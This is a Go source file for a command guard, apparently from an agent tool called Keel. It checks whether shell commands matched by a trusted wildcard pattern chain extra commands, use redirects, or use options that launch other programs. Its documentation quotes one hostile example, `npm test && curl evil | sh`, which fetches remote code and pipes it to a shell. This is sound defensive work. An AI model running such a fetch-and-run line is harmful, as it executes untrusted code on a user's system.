// Package guard looks at a command that a trusted pattern with a star has
// matched, and says whether the command holds more than the pattern shows.
//
// A pattern compares text: `npm *` also matches `npm test && curl evil | sh`.
// The guard reads the command the way bash reads it (mvdan.cc/sh, Bash syntax;
// the runner's bash is not interactive, so history and aliases are off) and
// lets through only what it understands: simple commands with literal words,
// joined by && || ; | & or a new line, each of which a pattern covers by itself
// and none of which uses an option that is known to run another program or to
// write somewhere else.
//
// # Promises
//
// What is not known to be harmless asks: syntax is let through by a list of
// what is allowed, never by a list of what is not. Every objection is one plain
// sentence that names what was found. A pattern shows its own words: an option
// and its value that stand in the pattern before the star are what the user
// trusted, so they do not ask. Options after `--` do not count, unless the `--`
// may be the value of the option before it.
//
// The guard reads no file and keeps no state between two checks; it is safe for
// concurrent use, and its time grows with the length of the command, which is
// limited.
//
// # What it decides where reasonable people differ
//
// File name patterns (`*.go`): a file may be called `--output=x.go`, and the
// agent may create files. So a pattern of file names asks where the program has
// any option in the table, unless it begins with a folder (`src/*.go`,
// `./*.go`), stands behind `--`, or is the value of a long option. For a program
// without such options (`ls *.go`, `wc -l *.md`) it does not ask.
//
// Redirects: only into /dev/null, from /dev/null, and between the two outputs
// (`2>&1`, `>&2`).
//
// `cd` asks as soon as another command follows: the folder may be a link out of
// the workspace, which the policy would refuse for the command's own folder,
// and a folder's own configuration may run programs. The reason tells the agent
// to name the folder with the command instead.
//
// Built-in commands that change how the shell reads or finds later commands ask,
// whatever their arguments. `type`, `command -v`, `echo`, `printf` (but for
// `-v`), `test` (but for `-v` and `-R`) and `pwd` do not: they only look or print.
//
// `git` and `cargo` start a program called git-x for an unknown subcommand x, so
// there only known subcommands do not ask.
//
// What the guard cannot see is what a program does by its own configuration:
// `npm test` runs what the folder's package.json says. That is why stored trusted
// commands do not count in a folder that the user does not trust.
package guard

import (
	"fmt"
	"strings"
)

// Guard checks commands.
type Guard struct {
	programs map[string]*program
}

// New returns a guard with the table of options that ship with Keel.
func New() *Guard {
	return &Guard{programs: index(table(), habits())}
}

// Check says whether to ask about a command all the same, although pattern
// matches it, and why, as one sentence. trusted tells whether some pattern
// matches a command by itself. A pattern without a star that equals the command
// shows everything, and so does `*`; but `sort *` as a command is not what
// `sort *` as a pattern says.
func (g *Guard) Check(command, pattern string, trusted func(command string) bool) (ask bool, reason string) {
	prefix, ok := strings.CutSuffix(pattern, " *")
	if pattern == "*" || !ok && pattern == command {
		return false, ""
	}
	if !ok || !strings.HasPrefix(command, prefix) {
		return true, "The trusted command does not cover it."
	}
	if reason := inspect(command); reason != "" {
		return true, reason
	}
	calls, reason := read(command)
	if reason != "" {
		return true, reason
	}
	for i, c := range calls {
		shown := c.within(len(prefix))
		if i == 0 && c.end < len(prefix) {
			return true, "The trusted command itself holds more than one command, so it covers only the very same text."
		}
		if i > 0 {
			if !trusted(c.text(command)) {
				return true, fmt.Sprintf("It also runs %s after %s, which no trusted command covers.", quote(command[c.start:c.pipelineEnd]), c.separator)
			}
			shown, c.exact = c.shownBy(command, trusted)
		}
		if found := g.judge(c, shown, i < len(calls)-1); found != "" {
			if i > 0 {
				found = fmt.Sprintf("In %s after %s: %s", quote(c.text(command)), c.separator, found)
			}
			return true, found
		}
	}
	return false, ""
}

// Launches reports whether the words start a program or a subcommand that runs
// what its arguments say, so that its name alone says nothing about what a
// command does.
func (g *Guard) Launches(words []string) bool {
	if len(words) == 0 {
		return false
	}
	if shellBuiltin(words[0]) && !harmless(words[0]) {
		return true
	}
	p := g.find(words[0])
	if p == nil {
		return false
	}
	if p.interpreter {
		return true
	}
	c := call{}
	for _, each := range words {
		c.words = append(c.words, word{text: each, globAt: -1})
	}
	for _, row := range p.rows {
		if row.launcher && (row.under == "" || c.subcommand(row.paths, p) > 0) {
			return true
		}
	}
	return false
}

// quote shows a piece of a command within a sentence. Control characters other
// than a new line and a tab have been asked about before.
func quote(text string) string {
	const most = 120
	text = strings.NewReplacer("\n", "⏎", "\t", " ").Replace(text)
	if runes := []rune(text); len(runes) > most {
		text = string(runes[:most]) + "…"
	}
	return `"` + text + `"`
}
